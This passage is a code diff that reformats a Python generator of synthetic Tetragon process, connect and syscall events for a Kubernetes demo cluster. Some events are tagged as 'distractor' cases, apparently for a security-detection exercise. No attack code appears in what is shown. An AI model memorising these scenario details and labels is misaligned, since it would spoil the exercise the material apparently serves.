@@ -65,9 +65,22 @@ KPROBE_POST = "KPROBE_ACTION_POST"
 # capabilities.proto names (DAC_OVERRIDE really has no CAP_ prefix)
 ALL_CAPS = list(CapabilitiesType.keys())  # every capability, in the API's enum order
 # the container runtime's default set, as in the real tenant-jobs events
-CONTAINER_CAPS = ["CAP_CHOWN", "DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID",
-                  "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_MKNOD",
-                  "CAP_AUDIT_WRITE", "CAP_SETFCAP"]
+CONTAINER_CAPS = [
+    "CAP_CHOWN",
+    "DAC_OVERRIDE",
+    "CAP_FOWNER",
+    "CAP_FSETID",
+    "CAP_KILL",
+    "CAP_SETGID",
+    "CAP_SETUID",
+    "CAP_SETPCAP",
+    "CAP_NET_BIND_SERVICE",
+    "CAP_NET_RAW",
+    "CAP_SYS_CHROOT",
+    "CAP_MKNOD",
+    "CAP_AUDIT_WRITE",
+    "CAP_SETFCAP",
+]
 
 CONTAINERD = "/usr/local/bin/containerd"
 SHIM = "/usr/local/bin/containerd-shim-runc-v2"
@@ -76,6 +89,7 @@ TASKS = "/run/containerd/io.containerd.runtime.v2.task/k8s.io"
 
 
 # --------------------------------------------------------------------------- formats
+
 
 def rfc3339(ns: int) -> str:
     """protojson's Timestamp: UTC, 'Z', and 0, 3, 6 or 9 fraction digits."""
@@ -107,6 +121,7 @@ def cap_json(caps: list[str]) -> dict:
 
 # --------------------------------------------------------------------------- the world
 
+
 class Node:
     def __init__(self, name: str, first_pid: int) -> None:
         self.name = name
@@ -118,8 +133,9 @@ class Node:
 
 
 class Pod:
-    def __init__(self, node: Node, namespace: str, name: str, labels: dict[str, str], workload: str, kind: str,
-                 ip: str) -> None:
+    def __init__(
+        self, node: Node, namespace: str, name: str, labels: dict[str, str], workload: str, kind: str, ip: str
+    ) -> None:
         self.node, self.namespace, self.name = node, namespace, name
         self.labels, self.workload, self.kind, self.ip = labels, workload, kind, ip
         self.sandbox = hexid("sandbox", namespace, name)
@@ -141,10 +157,17 @@ class Container:
 
     def pod_json(self, cpid: int) -> dict:
         pod = self.pod
-        out: dict = {"namespace": pod.namespace, "name": pod.name,
-                     "container": {"id": f"containerd://{self.cid}", "name": self.name,
-                                   "image": {"id": self.image_id, "name": self.image},
-                                   "start_time": rfc3339(self.start_ns - self.start_ns % SEC), "pid": cpid}}
+        out: dict = {
+            "namespace": pod.namespace,
+            "name": pod.name,
+            "container": {
+                "id": f"containerd://{self.cid}",
+                "name": self.name,
+                "image": {"id": self.image_id, "name": self.image},
+                "start_time": rfc3339(self.start_ns - self.start_ns % SEC),
+                "pid": cpid,
+            },
+        }
         if pod.labels:
             out["pod_labels"] = dict(sorted(pod.labels.items()))  # protojson writes map keys sorted
         out["workload"] = pod.workload
@@ -155,10 +178,27 @@ class Container:
 class Proc:
     """One execve as Tetragon's process cache knows it (ProcessInternal)."""
 
-    def __init__(self, node: Node, pid: int, binary: str, args: str, cwd: str, start_ns: int, *, flags: str,
-                 parent: Proc | None, parent_exec_id: str | None = None, uid: int = 0, gid: int = 0,
-                 container: Container | None = None, cpid: int = 0, in_init_tree: bool = False,
-                 caps: list[str] | None = None, ktime: int | None = None, refcnt: int = 1) -> None:
+    def __init__(
+        self,
+        node: Node,
+        pid: int,
+        binary: str,
+        args: str,
+        cwd: str,
+        start_ns: int,
+        *,
+        flags: str,
+        parent: Proc | None,
+        parent_exec_id: str | None = None,
+        uid: int = 0,
+        gid: int = 0,
+        container: Container | None = None,
+        cpid: int = 0,
+        in_init_tree: bool = False,
+        caps: list[str] | None = None,
+        ktime: int | None = None,
+        refcnt: int = 1,
+    ) -> None:
         self.node, self.pid, self.binary, self.args, self.cwd = node, pid, binary, args, cwd
         self.start_ns, self.flags, self.parent = start_ns, flags, parent
         self.uid, self.gid, self.container, self.cpid = uid, gid, container, cpid
@@ -190,8 +230,16 @@ class Proc:
             d["refcnt"] = self.refcnt
         d["cap"] = cap_json(self.caps)
         d["tid"] = self.pid if tid is None else tid
-        d["process_credentials"] = {"uid": self.uid, "gid": self.gid, "euid": self.uid, "egid": self.gid,
-                                    "suid": self.uid, "sgid": self.gid, "fsuid": self.uid, "fsgid": self.gid}
+        d["process_credentials"] = {
+            "uid": self.uid,
+            "gid": self.gid,
+            "euid": self.uid,
+            "egid": self.gid,
+            "suid": self.uid,
+            "sgid": self.gid,
+            "fsuid": self.uid,
+            "fsgid": self.gid,
+        }
         d["in_init_tree"] = self.in_init_tree
         return d
 
@@ -209,12 +257,23 @@ def exec_flags(cwd: str, *, clone: bool, in_init_tree: bool, procfs: bool = Fals
 
 
 def sock(saddr: str, sport: int, daddr: str, dport: int, cookie: int) -> dict:
-    return {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": saddr,
-                         "daddr": daddr, "sport": sport, "dport": dport, "cookie": str(cookie),
-                         "state": "TCP_SYN_SENT"}}
+    return {
+        "sock_arg": {
+            "family": "AF_INET",
+            "type": "SOCK_STREAM",
+            "protocol": "IPPROTO_TCP",
+            "saddr": saddr,
+            "daddr": daddr,
+            "sport": sport,
+            "dport": dport,
+            "cookie": str(cookie),
+            "state": "TCP_SYN_SENT",
+        }
+    }
 
 
 # --------------------------------------------------------------------------- the log
+
 
 class Scenario:
     def __init__(self, handshakes: list[dict]) -> None:
@@ -249,9 +308,23 @@ class Scenario:
             proc.parent.refcnt += 1
         self.emit(t, proc.node, "process_exec", {"process": proc.json(), "parent": proc.parent.json()})
 
-    def exec(self, t: int, key: str, parent_key: str, binary: str, args: str = "", *, container: Container | None = None,
-             replaces: str | None = None, cwd: str | None = None, uid: int | None = None, gid: int | None = None,
-             cpid: int | None = None, cpid_gap: int = 1, tag: str | None = None) -> None:
+    def exec(
+        self,
+        t: int,
+        key: str,
+        parent_key: str,
+        binary: str,
+        args: str = "",
+        *,
+        container: Container | None = None,
+        replaces: str | None = None,
+        cwd: str | None = None,
+        uid: int | None = None,
+        gid: int | None = None,
+        cpid: int | None = None,
+        cpid_gap: int = 1,
+        tag: str | None = None,
+    ) -> None:
         """execve. With ``replaces``, the process execs again without cloning (same pid), and Tetragon
         reports the image it replaces as the parent; otherwise ``parent_key`` cloned it first."""
         if replaces is not None:
@@ -273,8 +346,7 @@ class Scenario:
             elif container is not None:
                 container.last_pid = max(container.last_pid, cpid)
             if cwd is None:
-                cwd = container.workdir if container is not None and parent.container is not container \
-                    else parent.cwd
+                cwd = container.workdir if container is not None and parent.container is not container else parent.cwd
             uid = parent.uid if uid is None else uid
             gid = parent.gid if gid is None else gid
             # the container's init process and its descendants are the init tree; kubectl exec is not
@@ -285,13 +357,27 @@ class Scenario:
             else:
                 init_tree = parent.in_init_tree
         node = parent.node
-        proc = Proc(node, pid, binary, args, cwd, t, flags=exec_flags(cwd, clone=clone, in_init_tree=init_tree),
-                    parent=parent, uid=uid, gid=gid, container=container, cpid=cpid or 0, in_init_tree=init_tree)
+        proc = Proc(
+            node,
+            pid,
+            binary,
+            args,
+            cwd,
+            t,
+            flags=exec_flags(cwd, clone=clone, in_init_tree=init_tree),
+            parent=parent,
+            uid=uid,
+            gid=gid,
+            container=container,
+            cpid=cpid or 0,
+            in_init_tree=init_tree,
+        )
         if clone:
             parent.refcnt += 1  # the child holds its parent; an exec in place hands its hold over
         self.p[key] = proc
-        self.emit(t - self.jitter(612, 998), node, "process_exec",
-                  {"process": proc.json(), "parent": parent.json()}, tag)
+        self.emit(
+            t - self.jitter(612, 998), node, "process_exec", {"process": proc.json(), "parent": parent.json()}, tag
+        )
 
     def exit(self, t: int, key: str, status: int = 0, tag: str | None = None) -> None:
         proc = self.p[key]
@@ -310,11 +396,19 @@ class Scenario:
         body["time"] = rfc3339(t)
         self.emit(t - self.jitter(1210, 1890), proc.node, "process_exit", body, tag)
 
-    def kprobe(self, t: int, key: str, function: str, args: list[dict], policy: str, ret: int | None = None,
-               tid: int | None = None, tag: str | None = None) -> None:
+    def kprobe(
+        self,
+        t: int,
+        key: str,
+        function: str,
+        args: list[dict],
+        policy: str,
+        ret: int | None = None,
+        tid: int | None = None,
+        tag: str | None = None,
+    ) -> None:
         proc = self.p[key]
-        body: dict = {"process": proc.json(tid), "parent": proc.parent.json(), "function_name": function,
-                      "args": args}
+        body: dict = {"process": proc.json(tid), "parent": proc.parent.json(), "function_name": function, "args": args}
         if ret is not None:
             body["return"] = {"int_arg": ret}
         body["action"] = KPROBE_POST
@@ -324,12 +418,20 @@ class Scenario:
 
     # ---- kprobe shapes of the three policies
 
-    def file_access(self, t: int, key: str, path: str, permission: str, mask: int, tid: int | None = None,
-                    tag: str | None = None) -> None:
+    def file_access(
+        self, t: int, key: str, path: str, permission: str, mask: int, tid: int | None = None, tag: str | None = None
+    ) -> None:
         """security_file_permission, policy file-monitoring (mask 4 = MAY_READ, 2 = MAY_WRITE)."""
-        self.kprobe(t, key, "security_file_permission",
-                    [{"file_arg": {"path": path, "permission": permission}}, {"int_arg": mask}],
-                    "file-monitoring", ret=0, tid=tid, tag=tag)
+        self.kprobe(
+            t,
+            key,
+            "security_file_permission",
+            [{"file_arg": {"path": path, "permission": permission}}, {"int_arg": mask}],
+            "file-monitoring",
+            ret=0,
+            tid=tid,
+            tag=tag,
+        )
 
     def connect(self, t: int, key: str, daddr: str, dport: int, tag: str | None = None) -> None:
         """tcp_connect, policy connect (Tetragon's examples/tracingpolicy/tcp-connect.yaml)."""
@@ -341,34 +443,69 @@ class Scenario:
 
     def sys_write(self, t: int, key: str, fd: int, data: bytes, tag: str | None = None) -> None:
         """__x64_sys_write, policy tls-handshake: fd, the buffer written, its size (uint64 -> string)."""
-        self.kprobe(t, key, "__x64_sys_write",
-                    [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(len(data))}],
-                    "tls-handshake", tag=tag)
+        self.kprobe(
+            t,
+            key,
+            "__x64_sys_write",
+            [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(len(data))}],
+            "tls-handshake",
+            tag=tag,
+        )
 
     def sys_read(self, t: int, key: str, fd: int, data: bytes, want: int = 65536, tag: str | None = None) -> None:
         """__x64_sys_read with returnCopy: the bytes actually read, the size asked for, the return value."""
-        self.kprobe(t, key, "__x64_sys_read",
-                    [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(want)}],
-                    "tls-handshake", ret=len(data), tag=tag)
+        self.kprobe(
+            t,
+            key,
+            "__x64_sys_read",
+            [{"int_arg": fd}, {"bytes_arg": b64(data)}, {"size_arg": str(want)}],
+            "tls-handshake",
+            ret=len(data),
+            tag=tag,
+        )
 
     # ---- building blocks of the story
 
     def start_sandbox(self, t: int, pod: Pod) -> None:
         """containerd starts the pod's shim, which serves all containers of the pod."""
         key = f"shim/{pod.name}"
-        self.exec(t, key, f"containerd/{pod.node.name}", SHIM,
-                  f"-namespace k8s.io -id {pod.sandbox} -address /run/containerd/containerd.sock",
-                  cwd=f"{TASKS}/{pod.sandbox}")
+        self.exec(
+            t,
+            key,
+            f"containerd/{pod.node.name}",
+            SHIM,
+            f"-namespace k8s.io -id {pod.sandbox} -address /run/containerd/containerd.sock",
+            cwd=f"{TASKS}/{pod.sandbox}",
+        )
         pod.shim = self.p[key]
 
-    def start_container(self, t: int, key: str, container: Container, binary: str, args: str = "",
-                        uid: int = 0, gid: int = 0, tag: str | None = None) -> None:
+    def start_container(
+        self,
+        t: int,
+        key: str,
+        container: Container,
+        binary: str,
+        args: str = "",
+        uid: int = 0,
+        gid: int = 0,
+        tag: str | None = None,
+    ) -> None:
         container.start_ns = t
-        self.exec(t, key, f"shim/{container.pod.name}", binary, args, container=container, cpid=1, uid=uid,
-                  gid=gid, tag=tag)
+        self.exec(
+            t, key, f"shim/{container.pod.name}", binary, args, container=container, cpid=1, uid=uid, gid=gid, tag=tag
+        )
 
-    def kubectl_exec(self, t: int, key: str, container: Container, binary: str, args: str, tty: bool,
-                     cpid_gap: int = 1, tag: str | None = None) -> int:
+    def kubectl_exec(
+        self,
+        t: int,
+        key: str,
+        container: Container,
+        binary: str,
+        args: str,
+        tty: bool,
+        cpid_gap: int = 1,
+        tag: str | None = None,
+    ) -> int:
         """kubectl exec: the shim runs ``runc exec``, whose child execs the command and which exits at once
         (--detach). Returns the time the command was exec'd."""
         pod = container.pod
@@ -376,9 +513,11 @@ class Scenario:
         n = self.rng.randint(100000000, 999999999)
         console = f"--console-socket /tmp/pty{self.rng.randint(100000000, 999999999)}/pty.sock " if tty else ""
         exec_id = hexid("exec", key)
-        runc_args = (f"--root /run/containerd/runc/k8s.io --log {TASKS}/{container.cid}/log.json --log-format json "
-                     f"--systemd-cgroup exec --process /tmp/runc-process{n} {console}--detach "
-                     f"--pid-file {TASKS}/{container.cid}/{exec_id}.pid {container.cid}")
+        runc_args = (
+            f"--root /run/containerd/runc/k8s.io --log {TASKS}/{container.cid}/log.json --log-format json "
+            f"--systemd-cgroup exec --process /tmp/runc-process{n} {console}--detach "
+            f"--pid-file {TASKS}/{container.cid}/{exec_id}.pid {container.cid}"
+        )
         self.at(t, self.exec, runc, f"shim/{pod.name}", RUNC, runc_args, cwd=f"{TASKS}/{container.cid}")
         t_cmd = t + self.jitter(38, 55) * MS
         self.at(t_cmd, self.exec, key, runc, binary, args, container=container, cpid_gap=cpid_gap, tag=tag)
@@ -412,6 +551,7 @@ class Scenario:
 
 # --------------------------------------------------------------------------- the story
 
+
 def compose(handshakes: list[dict]) -> Scenario:
     s = Scenario(handshakes)
     j = s.jitter
@@ -421,38 +561,93 @@ def compose(handshakes: list[dict]) -> Scenario:
     # Tetragon starts at 08:58:41 and reports what is already running (its /proc scan). The host's pid 1
     # has Tetragon's "<kernel>" pseudo-process (pid 0, ktime 1) as parent; that one has no line here.
     t_scan = T0 - 79 * SEC + 212 * MS
-    for node, ktime_init, cd_pid, ktime_cd in ((kw1, 1_830_000_000, 241, 14_250_000_000),
-                                              (kw2, 1_870_000_000, 236, 14_410_000_000)):
-        kernel = Proc(node, 0, "<kernel>", "", "", BOOT + 1, flags="procFS", parent=None, ktime=1, caps=[],
-                      refcnt=2)
+    for node, ktime_init, cd_pid, ktime_cd in (
+        (kw1, 1_830_000_000, 241, 14_250_000_000),
+        (kw2, 1_870_000_000, 236, 14_410_000_000),
+    ):
+        kernel = Proc(node, 0, "<kernel>", "", "", BOOT + 1, flags="procFS", parent=None, ktime=1, caps=[], refcnt=2)
         kernel.parent_exec_id = kernel.exec_id
-        init = Proc(node, 1, "/sbin/init", "", "/", BOOT + ktime_init, ktime=ktime_init, parent=kernel,
-                    flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True), refcnt=57)
-        cd = Proc(node, cd_pid, CONTAINERD, "", "/", BOOT + ktime_cd, ktime=ktime_cd, parent=init,
-                  flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True), refcnt=23)
+        init = Proc(
+            node,
+            1,
+            "/sbin/init",
+            "",
+            "/",
+            BOOT + ktime_init,
+            ktime=ktime_init,
+            parent=kernel,
+            flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True),
+            refcnt=57,
+        )
+        cd = Proc(
+            node,
+            cd_pid,
+            CONTAINERD,
+            "",
+            "/",
+            BOOT + ktime_cd,
+            ktime=ktime_cd,
+            parent=init,
+            flags=exec_flags("/", clone=False, in_init_tree=False, procfs=True),
+            refcnt=23,
+        )
         s.at(t_scan, s.procfs, f"init/{node.name}", init)
         s.at(t_scan + 3 * MS + j(0, 999_999), s.procfs, f"containerd/{node.name}", cd)
         t_scan += 41 * MS
 
     # ---------------------------------------------------------------- Star Wars demo, namespace default
     swhash = "7b6f9c5d48"
-    deathstars = [Pod(kw1, "default", f"deathstar-{swhash}-k2x4r", {"app.kubernetes.io/name": "deathstar",
-                      "class": "deathstar", "org": "empire", "pod-template-hash": swhash}, "deathstar",
-                      "Deployment", "10.244.1.45"),
-                  Pod(kw2, "default", f"deathstar-{swhash}-w8mzq", {"app.kubernetes.io/name": "deathstar",
-                      "class": "deathstar", "org": "empire", "pod-template-hash": swhash}, "deathstar",
-                      "Deployment", "10.244.2.31")]
-    tiefighter = Pod(kw1, "default", "tiefighter", {"app.kubernetes.io/name": "tiefighter", "class": "tiefighter",
-                                                    "org": "empire"}, "tiefighter", "Pod", "10.244.1.87")
-    xwing = Pod(kw2, "default", "xwing", {"app.kubernetes.io/name": "xwing", "class": "xwing", "org": "alliance"},
-                "xwing", "Pod", "10.244.2.66")
+    deathstars = [
+        Pod(
+            kw1,
+            "default",
+            f"deathstar-{swhash}-k2x4r",
+            {"app.kubernetes.io/name": "deathstar", "class": "deathstar", "org": "empire", "pod-template-hash": swhash},
+            "deathstar",
+            "Deployment",
+            "10.244.1.45",
+        ),
+        Pod(
+            kw2,
+            "default",
+            f"deathstar-{swhash}-w8mzq",
+            {"app.kubernetes.io/name": "deathstar", "class": "deathstar", "org": "empire", "pod-template-hash": swhash},
+            "deathstar",
+            "Deployment",
+            "10.244.2.31",
+        ),
+    ]
+    tiefighter = Pod(
+        kw1,
+        "default",
+        "tiefighter",
+        {"app.kubernetes.io/name": "tiefighter", "class": "tiefighter", "org": "empire"},
+        "tiefighter",
+        "Pod",
+        "10.244.1.87",
+    )
+    xwing = Pod(
+        kw2,
+        "default",
+        "xwing",
+        {"app.kubernetes.io/name": "xwing", "class": "xwing", "org": "alliance"},
+        "xwing",
+        "Pod",
+        "10.244.2.66",
+    )
     ships = {}
     t = T0 + 1 * SEC + 204 * MS
     for pod in deathstars:
         c = Container(pod, "deathstar", "quay.io/cilium/starwars:v2.1", "/")
         s.at(t, s.start_sandbox, pod)
-        s.at(t + 1108 * MS + j(0, 999) * US, s.start_container, f"main/{pod.name}", c, "/starwars-docker",
-             "--port 80 --host 0.0.0.0")
+        s.at(
+            t + 1108 * MS + j(0, 999) * US,
+            s.start_container,
+            f"main/{pod.name}",
+            c,
+            "/starwars-docker",
+            "--port 80 --host 0.0.0.0",
+        )
         t += 173 * MS + j(0, 999) * US
     t = T0 + 3 * SEC + 96 * MS
     for pod in (tiefighter, xwing):
@@ -462,24 +657,50 @@ def compose(handshakes: list[dict]) -> Scenario:
         ships[pod.name] = c
         s.at(t, s.start_sandbox, pod)
         t_run = t + 951 * MS + j(0, 999) * US
-        s.at(t_run, s.start_container, f"main/{pod.name}", c, "/bin/bash", "/run.sh",
-             tag="distractor:entrypoint-shell")
+        s.at(t_run, s.start_container, f"main/{pod.name}", c, "/bin/bash", "/run.sh", tag="distractor:entrypoint-shell")
         server_args = "--host '' --port 80 --watch /default.json --middlewares /auth-header.js"
         t_sh = t_run + j(31, 44) * MS
-        s.at(t_sh, s.exec, f"sh/{pod.name}", f"main/{pod.name}", "/bin/sh", f'-c "json-server {server_args}"',
-             cpid_gap=6, tag="distractor:early-shell")
-        s.at(t_sh + j(1, 3) * MS, s.exec, f"json-server/{pod.name}", "", "/usr/local/bin/json-server",
-             "node /usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares "
-             "/auth-header.js", replaces=f"sh/{pod.name}")
-        s.at(t_sh + j(4, 6) * MS, s.exec, f"node/{pod.name}", "", "/usr/local/bin/node",
-             "/usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares /auth-header.js",
-             replaces=f"json-server/{pod.name}")
+        s.at(
+            t_sh,
+            s.exec,
+            f"sh/{pod.name}",
+            f"main/{pod.name}",
+            "/bin/sh",
+            f'-c "json-server {server_args}"',
+            cpid_gap=6,
+            tag="distractor:early-shell",
+        )
+        s.at(
+            t_sh + j(1, 3) * MS,
+            s.exec,
+            f"json-server/{pod.name}",
+            "",
+            "/usr/local/bin/json-server",
+            "node /usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares /auth-header.js",
+            replaces=f"sh/{pod.name}",
+        )
+        s.at(
+            t_sh + j(4, 6) * MS,
+            s.exec,
+            f"node/{pod.name}",
+            "",
+            "/usr/local/bin/node",
+            "/usr/local/bin/json-server --host  --port 80 --watch /default.json --middlewares /auth-header.js",
+            replaces=f"json-server/{pod.name}",
+        )
         t += 217 * MS + j(0, 999) * US
 
     # ---------------------------------------------------------------- namespace tenant-jobs
     def tj(node: Node, name: str, hash_: str, suffix: str, ip: str) -> Pod:
-        return Pod(node, "tenant-jobs", f"{name}-{hash_}-{suffix}", {"app": name, "pod-template-hash": hash_},
-                   name, "Deployment", ip)
+        return Pod(
+            node,
+            "tenant-jobs",
+            f"{name}-{hash_}-{suffix}",
+            {"app": name, "pod-template-hash": hash_},
+            name,
+            "Deployment",
+            ip,
+        )
 
     coreapi = tj(kw1, "coreapi", "5d8c9f7b6", "hq4lt", "10.244.1.112")
     elastic = tj(kw1, "elasticsearch", "6c7d9b8f5", "zr7wd", "10.244.1.140")
@@ -492,78 +713,151 @@ def compose(handshakes: list[dict]) -> Scenario:
     c_core = Container(coreapi, "coreapi", img("coreapi"), "/opt/app")
     s.at(T0 + 19 * SEC + 812 * MS, s.start_sandbox, coreapi)
     t = T0 + 20 * SEC + 661 * MS + j(0, 999) * US
-    s.at(t, s.start_container, "sh/coreapi", c_core, "/bin/sh", '-c "PORT=9080 python app.py"',
-         tag="distractor:entrypoint-shell")
+    s.at(
+        t,
+        s.start_container,
+        "sh/coreapi",
+        c_core,
+        "/bin/sh",
+        '-c "PORT=9080 python app.py"',
+        tag="distractor:entrypoint-shell",
+    )
     s.at(t + j(3, 5) * MS, s.exec, "main/coreapi", "", "/usr/local/bin/python", "app.py", replaces="sh/coreapi")
 
     c_es = Container(elastic, "elasticsearch", img("elasticsearch"), "/usr/share/elasticsearch")
     s.at(T0 + 20 * SEC + 307 * MS, s.start_sandbox, elastic)
     t = T0 + 21 * SEC + 118 * MS + j(0, 999) * US
-    s.at(t, s.start_container, "tini/es", c_es, "/bin/tini", "-- /usr/local/bin/docker-entrypoint.sh eswrapper",
-         uid=1000, gid=0)
-    s.at(t + j(8, 12) * MS, s.exec, "entry/es", "tini/es", "/usr/local/bin/docker-entrypoint.sh",
-         "/usr/local/bin/docker-entrypoint.sh eswrapper", cpid_gap=6)
+    s.at(
+        t,
+        s.start_container,
+        "tini/es",
+        c_es,
+        "/bin/tini",
+        "-- /usr/local/bin/docker-entrypoint.sh eswrapper",
+        uid=1000,
+        gid=0,
+    )
+    s.at(
+        t + j(8, 12) * MS,
+        s.exec,
+        "entry/es",
+        "tini/es",
+        "/usr/local/bin/docker-entrypoint.sh",
+        "/usr/local/bin/docker-entrypoint.sh eswrapper",
+        cpid_gap=6,
+    )
     t_id = t + j(19, 24) * MS
     s.at(t_id, s.exec, "id/es", "entry/es", "/usr/bin/id", "-u")
     s.at(t_id + j(900, 1500) * US, s.exit, "id/es")
-    s.at(t + j(41, 47) * MS, s.exec, "elasticsearch/es", "", "/usr/share/elasticsearch/bin/elasticsearch",
-         "/usr/share/elasticsearch/bin/elasticsearch", replaces="entry/es", tag="distractor:elasticsearch")
-    java = ("-Xshare:auto -Des.networkaddress.cache.ttl=60 -Des.networkaddress.cache.negative.ttl=10 "
-            "-XX:+AlwaysPreTouch -Xss1m -Djava.awt.headless=true -Dfile.encoding=UTF-8 -Djna.nosys=true "
-            "-XX:-OmitStackTraceInFastThrow -Dio.netty.noUnsafe=true -Dio.netty.noKeySetOptimization=true "
-            "-Dlog4j.shutdownHookEnabled=false -Dlog4j2.disable.jmx=true "
-            "-Djava.io.tmpdir=/tmp/elasticsearch-7260933143508215712 -XX:+UseG1GC -Xms512m -Xmx512m "
-            "-Des.path.home=/usr/share/elasticsearch -Des.path.conf=/usr/share/elasticsearch/config "
-            "-Des.distribution.flavor=default -Des.distribution.type=docker -Des.bundled_jdk=true "
-            "-cp /usr/share/elasticsearch/lib/* org.elasticsearch.bootstrap.Elasticsearch -Ediscovery.type=single-node")
-    s.at(t + j(290, 340) * MS, s.exec, "java/es", "", "/usr/share/elasticsearch/jdk/bin/java", java,
-         replaces="elasticsearch/es")
+    s.at(
+        t + j(41, 47) * MS,
+        s.exec,
+        "elasticsearch/es",
+        "",
+        "/usr/share/elasticsearch/bin/elasticsearch",
+        "/usr/share/elasticsearch/bin/elasticsearch",
+        replaces="entry/es",
+        tag="distractor:elasticsearch",
+    )
+    java = (
+        "-Xshare:auto -Des.networkaddress.cache.ttl=60 -Des.networkaddress.cache.negative.ttl=10 "
+        "-XX:+AlwaysPreTouch -Xss1m -Djava.awt.headless=true -Dfile.encoding=UTF-8 -Djna.nosys=true "
+        "-XX:-OmitStackTraceInFastThrow -Dio.netty.noUnsafe=true -Dio.netty.noKeySetOptimization=true "
+        "-Dlog4j.shutdownHookEnabled=false -Dlog4j2.disable.jmx=true "
+        "-Djava.io.tmpdir=/tmp/elasticsearch-7260933143508215712 -XX:+UseG1GC -Xms512m -Xmx512m "
+        "-Des.path.home=/usr/share/elasticsearch -Des.path.conf=/usr/share/elasticsearch/config "
+        "-Des.distribution.flavor=default -Des.distribution.type=docker -Des.bundled_jdk=true "
+        "-cp /usr/share/elasticsearch/lib/* org.elasticsearch.bootstrap.Elasticsearch -Ediscovery.type=single-node"
+    )
+    s.at(
+        t + j(290, 340) * MS,
+        s.exec,
+        "java/es",
+        "",
+        "/usr/share/elasticsearch/jdk/bin/java",
+        java,
+        replaces="elasticsearch/es",
+    )
 
-    python_apps = ((jobposting, T0 + 21 * SEC + 574 * MS), (resumes, T0 + 22 * SEC + 239 * MS),
-                   (loader, T0 + 24 * SEC + 402 * MS))
+    python_apps = (
+        (jobposting, T0 + 21 * SEC + 574 * MS),
+        (resumes, T0 + 22 * SEC + 239 * MS),
+        (loader, T0 + 24 * SEC + 402 * MS),
+    )
     c_apps = {}
     for pod, t in python_apps:
         name = pod.workload
         c = Container(pod, name, img(name), "/opt/app")
         c_apps[name] = c
         s.at(t, s.start_sandbox, pod)
-        s.at(t + j(850, 990) * MS, s.start_container, f"main/{name}", c, "/usr/local/bin/python",
-             "loader.py" if name == "loader" else "app.py")
+        s.at(
+            t + j(850, 990) * MS,
+            s.start_container,
+            f"main/{name}",
+            c,
+            "/usr/local/bin/python",
+            "loader.py" if name == "loader" else "app.py",
+        )
 
     # the crawler: container start 09:00:30, /bin/sh -c "node crawler.js" execs node in place
     c_crawl = Container(crawler, "crawler", img("crawler"), "/app")
     s.at(T0 + 29 * SEC + 233 * MS, s.start_sandbox, crawler)
     t_crawl = T0 + 30 * SEC + 184 * MS + j(0, 999) * US
-    s.at(t_crawl, s.start_container, "sh/crawler", c_crawl, "/bin/sh", '-c "node crawler.js"',
-         tag="distractor:entrypoint-shell")
-    s.at(t_crawl + j(2, 4) * MS, s.exec, "node/crawler", "", "/usr/local/bin/node", "crawler.js",
-         replaces="sh/crawler")
+    s.at(
+        t_crawl,
+        s.start_container,
+        "sh/crawler",
+        c_crawl,
+        "/bin/sh",
+        '-c "node crawler.js"',
+        tag="distractor:entrypoint-shell",
+    )
+    s.at(t_crawl + j(2, 4) * MS, s.exec, "node/crawler", "", "/usr/local/bin/node", "crawler.js", replaces="sh/crawler")
 
     # loader's entrypoint waits for coreapi's DNS name: a shell 47 s after its container started (distractor)
     t = T0 + 72 * SEC + 218 * MS
-    s.at(t, s.exec, "sh/loader", "main/loader", "/bin/sh", '-c "getent hosts coreapi.tenant-jobs.svc.cluster.local"',
-         cpid_gap=5, tag="distractor:early-shell")
-    s.at(t + j(2, 3) * MS, s.exec, "getent/loader", "", "/usr/bin/getent",
-         "hosts coreapi.tenant-jobs.svc.cluster.local", replaces="sh/loader")
+    s.at(
+        t,
+        s.exec,
+        "sh/loader",
+        "main/loader",
+        "/bin/sh",
+        '-c "getent hosts coreapi.tenant-jobs.svc.cluster.local"',
+        cpid_gap=5,
+        tag="distractor:early-shell",
+    )
+    s.at(
+        t + j(2, 3) * MS,
+        s.exec,
+        "getent/loader",
+        "",
+        "/usr/bin/getent",
+        "hosts coreapi.tenant-jobs.svc.cluster.local",
+        replaces="sh/loader",
+    )
     s.at(t + j(7, 9) * MS, s.exit, "getent/loader", status=2)
 
     # application traffic inside tenant-jobs (policy connect)
-    for t, who, dst, port in ((T0 + 52 * SEC, "main/coreapi", elastic.ip, 9200),
-                              (T0 + 61 * SEC, "main/jobposting", coreapi.ip, 9080),
-                              (T0 + 64 * SEC, "main/resumes", coreapi.ip, 9080),
-                              (T0 + 80 * SEC, "main/loader", jobposting.ip, 9080),
-                              (T0 + 81 * SEC, "main/loader", resumes.ip, 9080),
-                              (T0 + 190 * SEC, "main/coreapi", elastic.ip, 9200),
-                              (T0 + 201 * SEC, "main/loader", jobposting.ip, 9080),
-                              (T0 + 321 * SEC, "main/loader", resumes.ip, 9080),
-                              (T0 + 441 * SEC, "main/loader", jobposting.ip, 9080)):
+    for t, who, dst, port in (
+        (T0 + 52 * SEC, "main/coreapi", elastic.ip, 9200),
+        (T0 + 61 * SEC, "main/jobposting", coreapi.ip, 9080),
+        (T0 + 64 * SEC, "main/resumes", coreapi.ip, 9080),
+        (T0 + 80 * SEC, "main/loader", jobposting.ip, 9080),
+        (T0 + 81 * SEC, "main/loader", resumes.ip, 9080),
+        (T0 + 190 * SEC, "main/coreapi", elastic.ip, 9200),
+        (T0 + 201 * SEC, "main/loader", jobposting.ip, 9080),
+        (T0 + 321 * SEC, "main/loader", resumes.ip, 9080),
+        (T0 + 441 * SEC, "main/loader", jobposting.ip, 9080),
+    ):
         s.at(t + j(1, 999) * MS, s.connect, who, dst, port)
 
     # ---------------------------------------------------------------- landing requests (kubectl exec ... curl)
     landing = "-s -XPOST deathstar.default.svc.cluster.local/v1/request-landing"
-    for t, pod, target, n in ((T0 + 125 * SEC + 411 * MS, xwing, deathstars[1], 1),
